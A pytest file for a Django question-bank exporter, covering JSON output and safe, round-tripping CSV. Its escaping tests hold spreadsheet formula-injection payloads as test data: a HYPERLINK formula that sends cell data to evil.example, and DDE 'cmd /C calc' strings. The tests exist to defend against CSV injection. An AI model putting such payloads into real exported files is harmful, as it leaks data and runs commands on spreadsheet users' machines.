"""The exporter: JSON shape, CSV that round-trips and cannot run formulas, and what it reads."""

from __future__ import annotations

import csv
import io
import json

import pytest

from batches import exporting, services
from batches.models import BatchItem, BatchJob
from batches.states import ItemStatus
from tests.factories import FacultyFactory, batch_definition
from tests.fakes import question_args, review_args

TRICKY_STEM = 'A "quoted", comma-laden stem\nover two lines: Na⁺/K⁺-ATPase in µmol — ✓'


def result(**question_overrides) -> dict:
    return {
        "question": question_args(**question_overrides),
        "review": review_args(issues=["Lead-in, vague"]),
    }


def item(index: int, **question_overrides) -> BatchItem:
    return BatchItem(index=index, status=ItemStatus.COMPLETED, result=result(**question_overrides))


@pytest.fixture
def exported(monkeypatch) -> list[BatchItem]:
    """Serve the exporter these items instead of reading the database."""
    items: list[BatchItem] = []
    monkeypatch.setattr(exporting, "completed_items", lambda batch: iter(items))
    return items


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_header_has_index_stem_options_correct_explanation_score_and_verdict(exported):
    header = next(csv.reader(io.StringIO(exporting.export_csv(BatchJob()))))
    assert header == exporting.CSV_COLUMNS
    assert header[:8] == [
        "index",
        "stem",
        "option_a",
        "option_b",
        "option_c",
        "option_d",
        "option_e",
        "correct_answer",
    ]
    assert {"explanation", "review_score", "review_verdict"} <= set(header)


def test_csv_round_trips_quotes_commas_newlines_and_unicode(exported):
    exported.append(item(7, stem=TRICKY_STEM))
    [row] = csv_rows(exporting.export_csv(BatchJob()))
    question = question_args()
    assert row["index"] == "7"
    assert row["stem"] == TRICKY_STEM
    assert [row[f"option_{label}"] for label in "abcde"] == [o["text"] for o in question["options"]]
    assert row["correct_answer"] == question["correct_answer"]
    assert row["explanation"] == question["explanation"]
    assert (row["review_score"], row["review_verdict"]) == ("4", "accept")
    assert row["review_issues"] == "Lead-in, vague"


def test_csv_has_one_row_per_question_in_the_given_order(exported):
    exported.extend([item(0), item(2), item(5)])
    assert [row["index"] for row in csv_rows(exporting.export_csv(BatchJob()))] == ["0", "2", "5"]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_escapes_a_stem_a_spreadsheet_would_run_as_a_formula(exported, prefix):
    payload = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    exported.append(item(0, stem=payload))
    [row] = csv_rows(exporting.export_csv(BatchJob()))
    assert row["stem"] == "'" + payload


def test_csv_escapes_formulas_in_options_explanation_and_review_issues(exported):
    options = [{"label": label, "text": f"=cmd|' /C calc'!A{label}"} for label in "ABCDE"]
    record = item(0, options=options, explanation="@SUM(1+1)*cmd")
    record.result["review"]["issues"] = ["+1 point for style"]
    exported.append(record)
    [row] = csv_rows(exporting.export_csv(BatchJob()))
    escaped = [row[f"option_{label}"] for label in "abcde"]
    escaped += [row["explanation"], row["review_issues"]]
    assert all(cell.startswith("'") for cell in escaped)


@pytest.mark.parametrize("value", ["Renal physiology", "a = b + c", "", 4, None])
def test_safe_cell_leaves_text_without_a_leading_formula_character_alone(value):
    assert exporting.safe_cell(value) == value


def test_json_export_is_a_list_of_questions_with_index_and_review(exported):
    exported.extend([item(0), item(3)])
    records = json.loads(exporting.export_json(BatchJob()))
    assert [r["index"] for r in records] == [0, 3]
    assert records[0] == {"index": 0, **question_args(), "review": result()["review"]}


def test_json_export_writes_non_ascii_text_as_is(exported):
    exported.append(item(0, stem=TRICKY_STEM))
    text = exporting.export_json(BatchJob())
    assert "Na⁺/K⁺-ATPase" in text
    assert json.loads(text)[0]["stem"] == TRICKY_STEM


def test_json_export_of_no_questions_is_an_empty_list(exported):
    assert json.loads(exporting.export(BatchJob(), "json")) == []


def test_csv_export_of_no_questions_is_the_header_only(exported):
    assert exporting.export(BatchJob(), "csv").splitlines() == [",".join(exporting.CSV_COLUMNS)]


def test_export_rejects_an_unknown_format(exported):
    with pytest.raises(ValueError, match="xml"):
        exporting.export(BatchJob(), "xml")


def test_filename_names_the_batch_and_the_format():
    batch = BatchJob()
    assert exporting.filename(batch, "csv") == f"batch-{batch.pk}.csv"


@pytest.mark.django_db
def test_only_completed_items_are_exported_in_index_order(monkeypatch):
    monkeypatch.setattr("batches.dispatch.enqueue_items", lambda ids: None)
    batch, _ = services.create_batch(
        owner=FacultyFactory(), definition=batch_definition(target_count=5)
    )
    items = batch.items.order_by("index")
    items.filter(index__in=[3, 1]).update(status=ItemStatus.COMPLETED, result=result())
    items.filter(index=0).update(status=ItemStatus.FAILED, result=result(stem="never exported"))
    assert [r["index"] for r in json.loads(exporting.export_json(batch))] == [1, 3]
